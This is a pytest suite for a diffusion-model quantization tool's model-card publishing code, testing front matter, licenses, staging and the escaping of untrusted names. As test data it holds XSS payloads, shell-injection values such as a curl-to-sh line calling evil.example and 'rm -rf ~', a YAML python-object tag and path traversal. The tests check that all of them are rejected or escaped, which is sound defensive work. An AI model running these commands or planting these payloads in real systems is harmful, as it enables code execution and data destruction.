"""A card says what the files are, in words that stay words whatever the files are called."""

import json
import os
import re
import shlex
import shutil
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import yaml
from click.testing import CliRunner
from markdown_it import MarkdownIt
from PIL import Image, PngImagePlugin

from diffquant.cli.main import cli
from diffquant.convert.allocation import allocate_bits
from diffquant.convert.budgets import budget_of
from diffquant.convert.jobs import run_job
from diffquant.convert.recipe_source import load_recipe
from diffquant.convert.request import Request
from diffquant.convert.several import Wanted, run_jobs
from diffquant.core.errors import MalformedFile, UsageError
from diffquant.core.report import envelope
from diffquant.publish import card as card_module
from diffquant.publish.card import is_own_card, render_card
from diffquant.publish.licences import License
from diffquant.publish.markdown import cell_code, code, fenced, prose, text
from diffquant.publish.names import base_name
from diffquant.publish.release import ReleaseRequest, make_release
from diffquant.publish.staging import plan_staging, staged
from diffquant.quant.policy import Rule
from diffquant.quant.types import type_named
from diffquant.runtime.compare_settings import row_names
from diffquant.runtime.comparison import Comparison, Row, Value

ROOT = Path(__file__).parents[2]
CC0 = License("cc0-1.0", source="the publisher")
HOSTILE = "a|b`c`<img src=x onerror=alert(1)>[x](javascript:1)\n# H\n---\n| c |\u202ehttps://x.y"


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("made")
    rules = (Rule("single_blocks.0", None, "--exclude single_blocks.0"),)
    run_jobs(
        ROOT / "examples" / "flux1-shapes",
        [
            Wanted(folder / "s-Q4_K_S.gguf", Request("gguf", type_named("q4_k_s"), rules=rules)),
            Wanted(folder / "s-Q8_0.gguf", Request("gguf", type_named("q8_0"))),
            Wanted(
                folder / "s_fp8_scaled.safetensors",
                Request("safetensors", type_named("fp8_scaled")),
            ),
        ],
        workers=2,
        verify="none",
    )
    return folder


@pytest.fixture
def alone(monkeypatch, tmp_path):
    """A machine that remembers no source."""
    monkeypatch.setenv("DIFFQUANT_CACHE", str(tmp_path / "none"))


def rendered(card: str) -> str:
    """The card as HTML, by a parser that lets raw HTML through."""
    body = card.split("---\n", 2)[2]
    return MarkdownIt("commonmark").enable("table").render(body)


def foreign(card: str) -> list[str]:
    """Tags and addresses in the rendered card that no card of ours has."""
    html = re.sub(r"<!--.*?-->", "", rendered(card))
    ours = "h1|h2|h3|p|a|strong|em|img|table|thead|tbody|tr|th|td|code|pre|ul|li"
    tags = re.findall(rf"<(?!(?:{ours})\b)\w+", html)
    places = re.findall(r'(?:href|src)="([^"]*)"', html)
    strange = [one for one in places if not re.match(r"\./|https://huggingface\.co/me/", one)]
    return [*tags, *strange, *re.findall(r"onerror=\S*>", html)]


def release_of(*paths: Path, **asked):
    asked.setdefault("license", CC0)
    asked.setdefault("base_models", ("me/shapes",))
    return make_release(ReleaseRequest(paths, **asked))


def front(card: str) -> dict:
    return yaml.safe_load(card.split("---\n")[1])


def test_front_matter_is_what_the_hub_reads(made):
    card = render_card(release_of(made, quantized_by="me"))
    found = front(card)
    assert found == {
        "base_model": ["me/shapes"],
        "base_model_relation": "quantized",
        "language": ["en"],
        "library_name": "gguf",
        "license": "cc0-1.0",
        "pipeline_tag": "text-to-image",
        "quantized_by": "me",
        "tags": [
            *("gguf", "diffusion-single-file", "comfyui", "forge", "flux1"),
            *("4-bit", "8-bit", "diffquant"),
        ],
    }


def test_a_card_tells_what_was_kept_how_it_was_made_and_who_reads_it(made):
    card = render_card(release_of(made))
    assert "not for llama.cpp or Ollama" in card
    assert "--exclude single_blocks.0" in card
    assert "diffquant quantize flux1-shapes -o s-Q8_0.gguf -t q8_0\n" in card
    assert re.search(r"\| bf16 \| [\d,]+ \| 2 \| output layer \|", card)
    assert "### ComfyUI with ComfyUI-GGUF" in card
    assert re.search(r"- stable-diffusion\.cpp.*pooled", card)  # named among those that refuse it
    assert "### stable-diffusion.cpp" not in card
    assert "**Not image-verified**" in card
    for one in made.iterdir():
        assert f"[`{one.name}`](./{one.name})" in card


def test_a_safetensors_release_says_nothing_of_ollama(made):
    card = render_card(release_of(made / "s_fp8_scaled.safetensors"))
    assert "Ollama" not in card
    assert "library_name" not in front(card)


def test_a_text_encoder_may_well_be_for_llama_cpp(tmp_path):
    run_job(
        ROOT / "examples" / "flux1-shapes",
        tmp_path / "t5-Q8_0.gguf",
        Request("gguf", type_named("q8_0"), parts=("text_encoder_2",)),
        verify="none",
    )
    card = render_card(release_of(tmp_path))
    assert "Ollama" not in card
    assert "pipeline_tag" not in front(card)
    assert "T5" in card
    assert "-t q8_0 --target comfyui-gguf --part text_encoder_2\n" in card


def test_a_card_is_the_same_every_time_and_knows_its_own_hand(made):
    card = render_card(release_of(made))
    assert card == render_card(release_of(made))
    assert is_own_card(card)
    assert is_own_card(card.replace("\n", "\r\n"))
    assert not is_own_card(card.replace("## Files", "## My files"))
    assert not is_own_card("# somebody's\n")


def comparison(*rows: Row) -> Comparison:
    return Comparison(
        reference="flux1-shapes",
        reference_nbytes=1,
        architecture="flux1",
        variant="dev",
        part="denoiser",
        prompts=("a", "b"),
        seeds=(0,),
        steps=20,
        cfg=None,
        size=(128, 128),
        metrics=("psnr", "lpips"),
        missing={"lpips": HOSTILE},
        gates={},
        rows=rows,
    )


def written(found: Comparison, path: Path) -> Path:
    path.write_text(json.dumps(envelope("compare", found)))
    return path


def test_measured_quality_stands_in_the_table(made, tmp_path):
    rows = (
        Row("s-Q4_K_S.gguf", "candidate", values={"psnr": Value(42.26)}),
        Row("s-Q8_0.gguf", "candidate", identical=True, values={"psnr": Value(None)}),
        Row("floor", "floor", values={"psnr": Value(63.6)}),
        Row("control", "control", values={"psnr": Value(7.2)}),
    )
    path = written(comparison(*rows), tmp_path / "c.json")
    card = render_card(release_of(made, comparison=path))
    assert "| PSNR | use when |" in card
    assert re.search(r"s-Q4_K_S.gguf`.*\| 42\.3 dB \|", card)
    assert re.search(r"s-Q8_0.gguf`.*\| identical \|", card)
    assert "63.6 dB" in card
    assert "**Not image-verified**: `s_fp8_scaled.safetensors`" in card
    assert "<img" not in card


@pytest.mark.parametrize(
    "body",
    ["", "[]", "{}", '{"rows": [], "reference": 1}', "[" * 100_000, '{"rows": 1, "reference": ""}'],
)
def test_what_is_no_comparison_is_refused(made, tmp_path, body):
    path = tmp_path / "c.json"
    path.write_text(body)
    with pytest.raises(MalformedFile, match="compare --json"):
        release_of(made, comparison=path)


def test_a_comparison_of_other_files_is_refused(made, tmp_path):
    path = written(comparison(Row("x.gguf", "candidate")), tmp_path / "c.json")
    with pytest.raises(UsageError, match="none of which"):
        release_of(made, comparison=path)


def test_files_of_one_name_are_known_by_their_folders(made, tmp_path, monkeypatch):
    for name in ("a", "b", "c"):
        (tmp_path / name).mkdir()
        shutil.copy(made / "s-Q8_0.gguf", tmp_path / name / "x-Q8_0.gguf")
    rows = [
        Row(name, "candidate", values={"psnr": Value(psnr)})
        for name, psnr in zip(
            row_names([tmp_path / "a" / "x-Q8_0.gguf", tmp_path / "b" / "x-Q8_0.gguf"]),
            (41.0, 12.0),
            strict=True,
        )
    ]
    path = written(comparison(*rows), tmp_path / "c.json")
    assert "12.0 dB" in render_card(release_of(tmp_path / "b", comparison=path))
    monkeypatch.chdir(tmp_path / "a")
    card = render_card(release_of(Path("x-Q8_0.gguf"), comparison=path))
    assert "41.0 dB" in card
    assert "Not image-verified" not in card
    with pytest.raises(UsageError, match=r"a/x-Q8_0\.gguf, .*from where they were compared"):
        release_of(tmp_path / "c", comparison=path)


def sample(path: Path, prompt: str) -> Path:
    told = PngImagePlugin.PngInfo()
    told.add_text("parameters", f"{prompt}\nSteps: 20, Sampler: Euler, Seed: 1")
    Image.fromarray(np.zeros((8, 8, 3), np.uint8)).save(path, pnginfo=told)
    return path


def test_samples_become_a_gallery(made, tmp_path):
    folder = tmp_path / "pictures"
    folder.mkdir()
    sample(folder / "one.png", "a red fox")
    sample(folder / "two <b>.png", HOSTILE.replace("\n", " "))
    release = release_of(made, samples=(folder,), grid=sample(tmp_path / "g.png", ""))
    card = render_card(release)
    widget = front(card)["widget"]
    assert widget[0] == {"text": "a red fox", "output": {"url": "samples/one.png"}}
    assert widget[1]["output"]["url"] == "samples/two-b.png"
    assert "![samples: the original and the files" in card
    assert foreign(card) == []
    plan = plan_staging(release)
    assert {one.place for one in plan.files} >= {"samples/grid.png", "samples/two-b.png"}


def test_what_is_no_picture_is_refused(made, tmp_path):
    fake = tmp_path / "x.png"
    fake.write_bytes(b"<svg onload=alert(1)>")
    with pytest.raises(MalformedFile, match="no picture"):
        release_of(made, samples=(fake,))


def test_hostile_names_stay_text(made):
    release = release_of(made / "s-Q8_0.gguf")
    (one,) = release.files
    header = {**one.facts.header, "diffquant.source.name": HOSTILE, "diffquant.merged": HOSTILE}
    facts = replace(one.facts, header=header)
    files = (replace(one, facts=facts, name=replace(one.name, name="a|`b`](x).gguf")),)
    card = render_card(replace(release, files=files, title=HOSTILE))
    assert foreign(card) == []
    assert "\u202e" not in card
    assert rendered(card).count("<h1>") == 1
    assert "<code>a|`b`](x).gguf</code>" in rendered(card)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("a_b*c", r"a\_b\*c"),
        ("<b>&", "&lt;b&gt;&amp;"),
        ("- x", "&#45; x"),
        ("1. x", r"1\. x"),
        ("9.22", "9.22"),
        ("---", "&#45;--"),
        ("http://x", "http&#58;//x"),
        ("[a](b)", r"\[a\](b)"),
        ("x\ny", "x y"),
        ("\u202e\x1b", r"\\u202e\\u001b"),
    ],
)
def test_text_is_escaped(value, shown):
    assert str(text(value)) == shown


def test_code_cannot_be_left():
    assert str(code("a`b")) == "``a`b``"
    assert str(code("`")) == "`` ` ``"
    assert str(cell_code("a|b")) == r"`a\|b`"
    assert str(fenced("a\n```\nb", "sh")) == "````sh\na\n```\nb\n````"
    assert str(prose("see `a_b` <x")) == "see `a_b` &lt;x"
    assert "`" not in str(prose("odd ` one")).replace(r"\`", "")


def test_a_license_is_inherited_or_asked_for(made, tmp_path, alone):
    folder = tmp_path / "out"
    folder.mkdir()
    os.link(made / "s-Q8_0.gguf", folder / "s-Q8_0.gguf")
    with pytest.raises(UsageError, match="give --license"):
        release_of(folder, license=None)
    card = tmp_path / "base.md"
    card.write_text(
        "---\nlicense: other\nlicense_name: flux-1-dev\nlicense_link: LICENSE.md\n---\n# x\n"
    )
    with pytest.raises(UsageError, match="names a file that is not here"):
        release_of(folder, license=None, base_card=card)
    (tmp_path / "LICENSE.md").write_text("the text")
    release = release_of(folder, license=None, base_card=card)
    plan = plan_staging(release)
    assert next(one.content for one in plan.files if one.place == "LICENSE.md") == b"the text"
    found = front(plan.card)
    assert (found["license"], found["license_name"]) == ("other", "flux-1-dev")
    assert found["license_link"] == "LICENSE.md"


def test_the_source_that_this_machine_remembers_states_the_license(made, tmp_path, monkeypatch):
    monkeypatch.setenv("DIFFQUANT_CACHE", str(tmp_path))
    mark = make_release(ReleaseRequest((made,), license=CC0)).files[0].facts
    known = {mark.mark("source.fingerprint"): str(ROOT / "examples" / "flux1-shapes")}
    (tmp_path / "sources.json").write_text(json.dumps(known))
    assert release_of(made, license=None).license.id == "cc0-1.0"


@pytest.mark.parametrize("bad", ["other", "a b", "<x>", "Ünknown", "x" * 99])
def test_no_license_that_the_hub_does_not_know(made, bad):
    with pytest.raises(UsageError, match="license"):
        release_of(made, license=License(bad, source="the publisher"))


@pytest.mark.parametrize(
    "body",
    [
        "---\n- a\n---\n",
        "---\n{[\n---\n",
        "---\na: &x [*x, *x]\n---\n",
        "---\n!!python/name:os\n---\n",
    ],
)
def test_front_matter_that_is_none_is_no_license(made, tmp_path, alone, body):
    card = tmp_path / "c.md"
    card.write_text(body)
    with pytest.raises((MalformedFile, UsageError)):
        release_of(made, license=None, base_card=card)


def test_comfy_layout_sorts_files(made):
    release = release_of(made, layout="comfy")
    assert {one.place for one in release.files} == {
        "diffusion_models/s-Q4_K_S.gguf",
        "diffusion_models/s-Q8_0.gguf",
        "checkpoints/s_fp8_scaled.safetensors",
    }


def test_staging_links_and_cleans_up(made):
    plan = plan_staging(release_of(made, layout="comfy"))
    with staged(plan) as (folder, copied):
        assert copied == 0
        there = folder / "diffusion_models" / "s-Q8_0.gguf"
        assert there.samefile(made / "s-Q8_0.gguf")
        assert (folder / "README.md").read_text() == plan.card
    assert not folder.exists()


def test_two_files_of_one_name_are_refused(made, tmp_path):
    other = tmp_path / "s-Q8_0.gguf"
    os.link(made / "s-Q8_0.gguf", other)
    with pytest.raises(UsageError, match="both be published"):
        release_of(made, other)


@pytest.mark.parametrize(
    ("asked", "said"),
    [
        ({"base_models": ("x",)}, "owner/name"),
        ({"base_models": ("a/../b",)}, "owner/name"),
        ({"stem": "../x"}, "--name"),
        ({"base_card": Path("none.md")}, "no such file"),
        ({"comparison": Path("none.json")}, "no such file"),
    ],
)
def test_bad_values_are_usage_errors(made, asked, said):
    with pytest.raises(UsageError, match=said):
        release_of(made, **asked)


def test_memory_says_what_it_counts_where_files_differ(made, tmp_path, alone):
    flux = ROOT / "examples" / "flux1-shapes"
    same = render_card(release_of(made / "s-Q4_K_S.gguf", made / "s-Q8_0.gguf"))
    assert "other parts in 16 bits" not in same
    whole, part = tmp_path / "w_fp8_scaled.safetensors", tmp_path / "t-Q8_0.gguf"
    request = Request("safetensors", type_named("fp8_scaled"), all_parts=True)
    run_job(flux, whole, request, verify="none")
    request = Request("gguf", type_named("q8_0"), parts=("text_encoder_2",))
    run_job(flux, part, request, verify="none")
    card = render_card(release_of(whole, part, made / "s-Q8_0.gguf"))
    rows = {
        found[1]: [cell.strip() for cell in line.split("|")]
        for line in card.splitlines()
        if (found := re.match(r"\| \[`([^`]+)`\]", line))
    }
    assert rows[whole.name][5].endswith("(whole model)")
    assert rows["s-Q8_0.gguf"][5].endswith("(other parts in 16 bits)")
    assert rows[part.name][5].endswith("(this part alone)")
    assert rows[part.name][6] == "&#45;"  # it fits no card by itself, and has no other to compare
    (lacks,) = (line for line in card.splitlines() if "what a file lacks" in line)
    assert lacks.startswith("Memory (other parts in 16 bits) is an estimate")


def test_what_a_folder_has_besides_is_named(made, tmp_path, alone):
    (tmp_path / "more" / "deep").mkdir(parents=True)
    (tmp_path / "notes").mkdir()
    shutil.copy(made / "s-Q8_0.gguf", tmp_path / "more" / "deep")
    shutil.copy(made / "s-Q8_0.gguf", tmp_path / "more")
    with pytest.raises(UsageError, match=r"no \.gguf or .*; more/ is left out: 2 files of weights"):
        release_of(tmp_path)
    shutil.copy(made / "s-Q8_0.gguf", tmp_path)
    shutil.copy(made / "s-Q8_0.gguf", tmp_path / ".s-Q8_0.gguf")
    (tmp_path / "old.ckpt").touch()
    (tmp_path / "nf4").mkdir()
    (tmp_path / "nf4" / "model_index.json").write_text("{}")
    (tmp_path / ".diffquant-batch").mkdir()
    notes = [one for one in release_of(tmp_path).notes if "left out" in one]
    assert [one.partition(":")[0] for one in notes] == [
        ".s-Q8_0.gguf is left out",
        "more/ is left out",
        "nf4/ is left out",
        "old.ckpt is left out",
    ]
    assert "`hf upload`" in notes[2]
    (tmp_path / "more" / "s-Q8_0.gguf").rename(tmp_path / "more" / "t-Q8_0.gguf")
    notes = release_of(tmp_path, tmp_path / "more").notes
    assert not any(one.startswith("more/") for one in notes)
    assert any(one.startswith("deep/ is left out: a file of weights") for one in notes)


def test_what_is_no_model_is_not_published(tmp_path):
    with pytest.raises(UsageError, match=r"no \.gguf or"):
        release_of(tmp_path)
    with pytest.raises(UsageError, match="hf upload"):
        release_of(ROOT / "examples" / "flux1-shapes")
    (tmp_path / "x-00001-of-00002.gguf").touch()
    with pytest.raises(UsageError, match="shards"):
        release_of(tmp_path)
    (tmp_path / "x.bin").touch()
    with pytest.raises(UsageError, match=r"expected \.gguf"):
        release_of(tmp_path / "x.bin")


@pytest.mark.parametrize(
    ("stated", "shown"),
    [
        ("--exclude 'a b' --pure", "--exclude 'a b' --pure"),
        ("--recipe-from x.gguf", "--recipe-from x.gguf"),
        ("--exclude x; curl https://evil.example/x | sh", ""),
        ("--exclude x\nrm -rf ~", ""),
        ("--pure --evil", ""),
        ("--exclude", ""),
        ("--exclude 'open", ""),
    ],
)
def test_a_header_writes_no_command_but_ours(stated, shown):
    assert shlex.join(card_module._stated_options(stated)) == shown


def test_the_command_of_a_file_under_a_budget_makes_that_file(tmp_path, monkeypatch):
    monkeypatch.setenv("DIFFQUANT_CACHE", str(tmp_path / "cache"))
    source, out = ROOT / "examples" / "flux1-shapes", tmp_path / "made" / "flux1-Q4_K_S.gguf"
    out.parent.mkdir()
    budget = budget_of("--max-size", "2.5 MB", ("q3_k", "q4_k", "q8_0"), free_kept=True)
    run_job(source, out, allocate_bits(source, Request("gguf"), budget).request, verify="none")
    card = render_card(release_of(out.parent))
    (line,) = (one for one in card.splitlines() if one.startswith("diffquant quantize"))
    assert line == (
        "diffquant quantize flux1-shapes -o flux1-Q4_K_S.gguf --max-size '2.5 MB' --free-kept "
        "--among q3_k,q4_k,q8_0"
    )
    monkeypatch.chdir(tmp_path)
    (tmp_path / "flux1-shapes").symlink_to(source)
    ran = CliRunner().invoke(cli, shlex.split(line)[1:])
    assert ran.exit_code == 0, ran.output
    assert (tmp_path / out.name).read_bytes() == out.read_bytes()


@pytest.mark.parametrize(
    ("allocation", "shown"),
    [
        ("--bpw 4.6; among: q4_k; sensitivity: outputs of unknown",
         "--bpw 4.6 --among q4_k --sensitivity FILE"),
        ("--vram 8GiB; among: q4_k, bf16; sensitivity: weights of 0123456789abcdef",
         "--vram 8GiB --among q4_k,bf16"),
        ("--vram 8GiB; rm -rf ~; among: q4_k; sensitivity: weights of unknown", ""),
        ("--out x; among: q4_k; sensitivity: weights of unknown", ""),
        ("--bpw 4.6; among: q4_k", ""),
    ],
)  # fmt: skip
def test_a_budget_in_a_header_is_read_word_by_word(allocation, shown):
    assert shlex.join(card_module._formats("4.60bpw", allocation)) == shown


def recipe_of_q8_0(tmp_path, name, kind):
    """Flux.1's q8_0 file, made by a recipe that calls itself `kind`."""
    flux = ROOT / "examples" / "flux1-shapes"
    plain = tmp_path / "plain.gguf"
    run_job(flux, plain, Request("gguf", type_named("q8_0")), verify="none")
    recipe = replace(load_recipe(plain), type=kind, name="own.txt")
    run_job(flux, tmp_path / name, Request("gguf", type_named(kind), recipe=recipe), verify="none")
    plain.unlink()
    return tmp_path / name


def test_a_file_made_by_a_recipe_is_not_called_a_type_that_it_is_not(tmp_path, alone):
    path = recipe_of_q8_0(tmp_path, "own.gguf", "q4_k_s")
    with pytest.raises(UsageError, match="its recipe is not that of q4_k_s"):
        release_of(path)
    path = path.rename(tmp_path / "own-Q8_0.gguf")
    card = render_card(release_of(path))
    assert "| `Q8_0` |" in card
    assert "-t q4_k_s --recipe-from own.txt" in card
    assert "since their rows do not divide" not in card


def test_a_recipe_that_is_a_types_own_is_called_so(tmp_path, alone):
    (file,) = release_of(recipe_of_q8_0(tmp_path, "own.gguf", "q8_0")).files
    assert (file.name.name, file.facts.type) == ("own-Q8_0.gguf", "q8_0")


def test_a_mix_under_a_budget_has_its_command(tmp_path, alone):
    flux, out = ROOT / "examples" / "flux1-shapes", tmp_path / "mix-9.00bpw-57Q8_0-43Q6_K.gguf"
    budget = budget_of("--bpw", "9", ("q6_k", "q8_0"))
    request = allocate_bits(flux, Request("gguf"), budget).request
    run_job(flux, out, request, verify="none")
    card = render_card(release_of(out))
    assert f"diffquant quantize flux1-shapes -o {out.name} --bpw 9 --among q6_k,q8_0\n" in card
    for odd in ("--bpw 9; among: q6_k; rm", "--bpw $(x); among: q6_k; sensitivity: weights of a"):
        assert card_module._formats("9.00bpw", odd) == []


def test_a_source_is_named_without_folders_and_is_no_option():
    assert base_name("/home/me/x.safetensors") == "x.safetensors"
    assert base_name("C:\\me\\x.safetensors") == "x.safetensors"
    assert card_module._argument("-o") == "./-o"


def test_only_a_license_is_uploaded_as_one(made, tmp_path, alone):
    (tmp_path / "secret.env").write_text("TOKEN=abc")
    card = tmp_path / "base.md"
    card.write_text("---\nlicense: other\nlicense_name: n\nlicense_link: secret.env\n---\n# x\n")
    with pytest.raises(UsageError, match="names a file that is not here"):
        release_of(made / "s-Q8_0.gguf", license=None, base_card=card)
